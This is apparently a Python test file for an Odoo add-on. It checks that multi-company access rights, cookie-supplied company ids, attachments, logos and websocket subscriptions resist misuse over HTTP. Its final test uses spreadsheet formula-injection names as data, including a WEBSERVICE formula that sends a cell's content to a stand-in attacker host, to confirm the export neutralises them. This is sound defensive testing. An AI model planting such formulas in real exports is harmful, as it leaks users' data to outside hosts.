# Copyright 2026 Octopus
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
"""Over real HTTP: a revoke counts at the next request; faults are readable."""

import base64
import io
import json
from unittest.mock import patch

from openpyxl import load_workbook

from odoo.http import Request
from odoo.tests import tagged
from odoo.tools import file_open, mute_logger

from .common import DossierHttpCommon


@tagged("post_install", "-at_install")
class TestHttpAccess(DossierHttpCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.bill = cls._move(cls.bakery)

    @mute_logger("odoo.http")  # refusals are logged there as warnings
    def _call(self, model, method, *args, companies=None, **kwargs):
        if companies:
            ids = [dossier.company_id.id for dossier in companies]
            kwargs["context"] = {"allowed_company_ids": ids}
        return self.url_open(
            "/web/dataset/call_kw",
            json={
                "jsonrpc": "2.0",
                "method": "call",
                "params": {"model": model, "method": method, "args": args, "kwargs": kwargs},
            },
        ).json()

    def test_revoke_counts_at_the_next_request(self):
        self._login(self.employee)
        answer = self._call("account.move", "search_count", [], companies=[self.bakery])
        self.assertEqual(answer["result"], 1)
        with patch.object(type(self.env.registry), "clear_cache", side_effect=AssertionError):
            self._give(self.employee, self.bakery, {"purchases": False, "sales": "1"})
            self.env.flush_all()
        answer = self._call("account.move", "search_count", [], companies=[self.bakery])
        self.assertEqual(answer["result"], 0)
        self._give(self.employee, self.bakery, {"sales": False})
        answer = self._call("account.move", "search_count", [], companies=[self.bakery])
        self.assertIn("You no longer have a right in", answer["error"]["data"]["message"])

    def test_opening_a_dossier_from_the_list(self):
        self._login(self.accountant)
        self.start_tour(
            "/odoo/action-octopus_dossier.octopus_dossier_action",
            "octopus_dossier_open_books",
            login=self.accountant.login,
        )

    def test_withdrawn_link_counts_at_the_next_request(self):
        self._login(self.accountant)
        args = ("account.move", "search_count", [])
        self.assertEqual(self._call(*args, companies=[self.bakery])["result"], 1)
        self.bakery.link_ids.with_user(self.baker)._withdraw()
        self.env.flush_all()
        answer = self._call(*args, companies=[self.bakery])
        self.assertEqual(answer["error"]["data"]["name"], "odoo.exceptions.AccessError")

    def test_fault_says_what_is_missing(self):
        self._login(self.employee)
        answer = self._call(
            "account.move", "write", [self.bill.id], {"ref": "x"}, companies=[self.bakery]
        )
        self.assertIn("Purchases: write", answer["error"]["data"]["message"])

    def test_portal_user_has_no_way_round_the_portal(self):
        self._login(self.baker)
        for model in ("account.move", "account.move.line", "res.partner"):
            answer = self._call(model, "search_read", [], ["id", "display_name"])
            names = [row["display_name"] for row in answer.get("result", [])]
            for name in names:
                self.assertNotIn("Foreign", name)
                self.assertNotIn("Garage", name)
        answer = self._call("account.journal", "search_count", [])
        self.assertIn("error", answer)

    def test_session_lists_only_own_dossiers(self):
        self._login(self.accountant)
        answer = self.url_open("/web/session/get_session_info", json={"params": {}}).json()
        listed = set(answer["result"]["user_companies"]["allowed_companies"])
        self.assertEqual(listed, {str(c.id) for c in self.accountant.company_ids})

    def test_web_client_opens_for_a_user_without_right(self):
        self._login(self.stranger)
        self.assertEqual(self.url_open("/odoo").status_code, 200)

    def test_active_dossiers_of_a_post_come_from_the_cookie_if_they_are_own(self):
        self._give(self.accountant, self.bakery, {"purchases": "2"})
        self._login(self.accountant)
        foreign, own = self.foreign.company_id.id, self.bakery.company_id.id
        # unknown ids, foreign ones and what is no number are left out, not believed
        self.opener.cookies["cids"] = f"{foreign}-{own}-x-99999999999999999999"
        answer = self.url_open(
            "/mail/attachment/upload",
            data={
                "thread_model": "account.move",
                "thread_id": self.bill.id,
                "csrf_token": Request.csrf_token(self),
            },
            files={"ufile": ("a.txt", b"text", "text/plain")},
        )
        self.assertEqual(answer.status_code, 200)
        files = self.env["ir.attachment"].search([("res_id", "=", self.bill.id)])
        self.assertEqual(files.filtered(lambda f: f.res_model == "account.move").name, "a.txt")

    def test_a_call_that_names_no_dossier_works_in_those_of_the_cookie(self):
        foreign, own, other = (
            dossier.company_id.id for dossier in (self.foreign, self.bakery, self.garage)
        )
        self._move(self.garage)
        self._login(self.accountant)
        self.opener.cookies["cids"] = f"{foreign}-{own}"
        params = {"model": "account.move", "method": "search_read", "args": [[], ["company_id"]]}

        def companies(kwargs):
            asked = {"params": {**params, "kwargs": kwargs}}
            answer = self.url_open("/web/dataset/call_kw", json=asked).json()
            return {row["company_id"][0] for row in answer["result"]}

        self.assertEqual(companies({}), {own})
        self.assertEqual(companies({"context": {"lang": "en_US"}}), {own})
        named = companies({"context": {"allowed_company_ids": [other]}})
        self.assertEqual(named, {other})

    def test_the_server_fetches_no_address_for_anybody(self):
        page = {"params": {"preview_url": f"{self.base_url()}/web/login"}}
        for user in (None, self.employee):
            self._login(user) if user else self.authenticate(None, None)
            answer = self.url_open("/html_editor/link_preview_external", json=page).json()
            self.assertIs(answer["result"], False)

    def test_a_file_is_opened_by_the_right_and_not_by_its_address(self):
        self._give(self.employee, self.bakery, {"purchases": "2"})
        self._login(self.employee)
        self.opener.cookies["cids"] = str(self.bakery.company_id.id)
        thread = {"thread_model": "account.move", "thread_id": self.bill.id}
        uploaded = self.url_open(
            "/mail/attachment/upload",
            data={**thread, "csrf_token": Request.csrf_token(self)},
            files={"ufile": ("a.txt", b"text", "text/plain")},
        ).json()["data"]
        [file] = uploaded["store_data"]["ir.attachment"]
        self.bill.with_user(self.employee).message_post(attachment_ids=[file["id"]])
        listed = self.url_open("/mail/thread/messages", json={"params": thread}).json()
        [seen] = listed["result"]["data"]["ir.attachment"]
        tokens = {name: row[name] for row in (file, seen) for name in row if "token" in name}
        self.assertEqual(set(tokens.values()), {False}, tokens)
        address = f"/web/content/{file['id']}"
        self.assertEqual(self.url_open(address).text, "text")
        attachment = self.env["ir.attachment"].browse(file["id"])
        owner = attachment._get_ownership_token()
        self._give(self.employee, self.bakery, {"purchases": False, "sales": "1"})
        self.env.flush_all()
        self.assertEqual(self.url_open(address).status_code, 404)
        with mute_logger("odoo.http"):
            asked = {"params": {"attachment_id": file["id"], "access_token": owner}}
            self.assertIn("error", self.url_open("/mail/attachment/delete", json=asked).json())
        self.assertTrue(attachment.exists())

    def test_the_logo_of_a_dossier_is_no_list_of_clients(self):
        logos = {
            dossier: base64.b64encode(file_open(f"web/static/img/{name}.png", "rb").read())
            for dossier, name in ((self.bakery, "logo2"), (self.foreign, "odoo_logo_tiny"))
        }
        for dossier, picture in logos.items():
            dossier.company_id.logo = picture
        self.env.flush_all()
        none = self.url_open("/logo.png?company=987654321").content

        def shows(dossier, key=""):
            company = dossier.company_id.id
            return self.url_open(f"/logo.png?company={company}&key={key}").content != none

        self.authenticate(None, None)
        key = self.foreign.company_id._octopus_logo_key()
        self.assertFalse(shows(self.foreign) or shows(self.bakery) or shows(self.bakery, key))
        self.assertTrue(shows(self.foreign, key))
        for nonsense in ("x", "²", "-1", "9" * 30):
            self.assertEqual(self.url_open(f"/logo.png?company={nonsense}").content, none)
        self._login(self.employee)
        self.assertTrue(shows(self.bakery))
        self.assertFalse(shows(self.foreign))
        values = {"company": self.foreign.company_id, "message": self.env["mail.message"]}
        layout = {"is_html_empty": bool, "lang": "en_US", "signature": "", **values}
        mail = self.env["ir.qweb"]._render("mail.mail_notification_light", layout)
        self.assertIn(key, str(mail))

    def test_who_subscribes_to_nonsense_fills_no_log(self):
        asked = ["odoo-presence-x", "x" * 201] * 50 + [f"x{number}" for number in range(3000)]
        self.authenticate(None, None)
        with self.assertNoLogs("odoo.addons.mail.models.ir_websocket", "WARNING"):
            answer = self.url_open(
                "/websocket/peek_notifications",
                json={"params": {"channels": asked, "last": 0, "is_first_poll": True}},
            ).json()
        heard = [channel[1] for channel in answer["result"]["channels"]]
        self.assertEqual([word for word in heard if word.startswith("x")][-1], "x899")

    def test_a_name_is_no_formula_in_the_spreadsheet_of_a_list(self):
        names = [
            "=1+1",
            "{=1+1}",
            '=WEBSERVICE("https://evil.example/"&A2)',
            "https://evil.example",
        ]
        made = [self._relation(self.bakery, name).id for name in names]
        self._login(self.accountant)
        asked = {
            "model": "res.partner",
            "fields": [{"name": name, "label": name, "type": "char"} for name in ("name", "email")],
            "ids": made,
            "domain": [],
            "import_compat": False,
            "context": {"allowed_company_ids": self.bakery.company_id.ids},
        }
        for groupby in ([], ["name"]):
            data = json.dumps({**asked, "groupby": groupby})
            form = {"data": data, "csrf_token": Request.csrf_token(self)}
            answer = self.url_open("/web/export/xlsx", data=form)
            sheet = load_workbook(io.BytesIO(answer.content)).active
            cells = [cell for [cell, *_rest] in sheet.iter_rows(min_row=2)]
            self.assertLessEqual(set(names), {cell.value for cell in cells})
            self.assertEqual({cell.data_type for cell in cells}, {"s"})
            self.assertFalse([cell for cell in cells if cell.hyperlink])
